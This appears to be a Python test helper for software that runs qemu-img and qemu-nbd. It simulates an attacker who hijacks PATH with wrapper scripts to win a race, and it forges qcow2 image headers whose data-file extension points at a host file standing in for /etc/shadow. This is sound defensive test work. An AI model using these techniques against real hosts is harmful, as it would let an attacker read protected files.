# SPDX-License-Identifier: Apache-2.0
"""Somebody who exchanges files just before a program opens them.

Something stands in the place of the program in PATH: it tells the attacker, a thread of the test, who
does what he likes; runs the real one; and tells him again. So the moment, which an attacker has to hit by
luck or by watching, is hit each time, and what confines the program does not confine him.
"""

import os
import shutil
import socket
import struct
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path

SECRET = b"a line of /etc/shadow\n"


def secret_file(path: Path, size: int) -> Path:
    """A file of the host that is nobody's business."""
    path.write_bytes((SECRET * (size // len(SECRET) + 1))[:size])
    path.chmod(0o600)
    return path


_IN_FRONT = """#!{python} -SsE
import os, socket, subprocess, sys
def tell(word):
    with socket.socket(socket.AF_UNIX) as attacker:
        attacker.connect({address!r})
        attacker.sendall(word)
        attacker.recv(1)
tell(b"before")
if {ended}:
    code = subprocess.call([{real!r}, *sys.argv[1:]], close_fds=False)
    tell(b"after")
    sys.exit(code)
os.execv({real!r}, [{real!r}, *sys.argv[1:]])
"""


def nothing() -> None:
    """What an attacker does who waits."""


@contextmanager
def attacking(
    before: Callable[[], object], after: Callable[[], object] = nothing
) -> Iterator[Mapping[str, str]]:
    """The environment in which somebody does something before and after each run of qemu-img, and before
    each of qemu-nbd, which runs until it is ended."""
    with tempfile.TemporaryDirectory() as folder, socket.socket(socket.AF_UNIX) as listener:
        address = f"{folder}/attacker"
        listener.bind(address)
        listener.listen()
        for program in ("qemu-img", "qemu-nbd"):
            _stand_in_front(Path(folder) / program, program, address)
        attacker = threading.Thread(target=_serve, args=(listener, before, after))
        attacker.start()
        try:
            yield {"PATH": f"{folder}{os.pathsep}{os.environ['PATH']}"}
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            attacker.join()


def _stand_in_front(script: Path, program: str, address: str) -> None:
    real = shutil.which(program)
    assert real is not None
    ended = program == "qemu-img"
    script.write_text(
        _IN_FRONT.format(python=sys.executable, address=address, real=real, ended=ended)
    )
    script.chmod(0o755)


def _serve(
    listener: socket.socket, before: Callable[[], object], after: Callable[[], object]
) -> None:
    while True:
        try:
            victim, _ = listener.accept()
        except OSError:  # it is over
            return
        with victim, suppress(ConnectionError):
            (before if victim.recv(16) == b"before" else after)()
            victim.sendall(b"!")


def forged_head(image: Path, data_file: Path) -> bytes:
    """The head of a qcow2 image, which says now that its data lies in another file."""
    head = image.read_bytes()[:65536]
    name = str(data_file).encode()
    length = struct.unpack_from(">I", head, 100)[0]
    extension = struct.pack(">II", 0x44415441, len(name)) + name.ljust(
        -(-len(name) // 8) * 8, b"\0"
    )
    forged = bytearray(head[:length] + extension + head[length : 65536 - len(extension)])
    features = struct.unpack_from(">Q", forged, 72)[0] | 4
    struct.pack_into(">Q", forged, 72, features)
    backing = struct.unpack_from(">Q", forged, 8)[0]
    if backing:
        struct.pack_into(">Q", forged, 8, backing + len(extension))
    return bytes(forged)


@contextmanager
def flipping(images: list[Path], data_file: Path) -> Iterator[Mapping[str, str]]:
    """The environment in which qemu-img and qemu-nbd find forged heads in these images, which are put
    back afterwards."""
    forged = {image: forged_head(image, data_file) for image in images}
    right = {image: image.read_bytes()[:65536] for image in images}
    with attacking(lambda: _write_heads(forged), lambda: _write_heads(right)) as environment:
        yield environment
    _write_heads(right)


def _write_heads(heads: Mapping[Path, bytes]) -> None:
    for image, head in heads.items():
        with suppress(FileNotFoundError), image.open("r+b") as file:
            file.write(head)
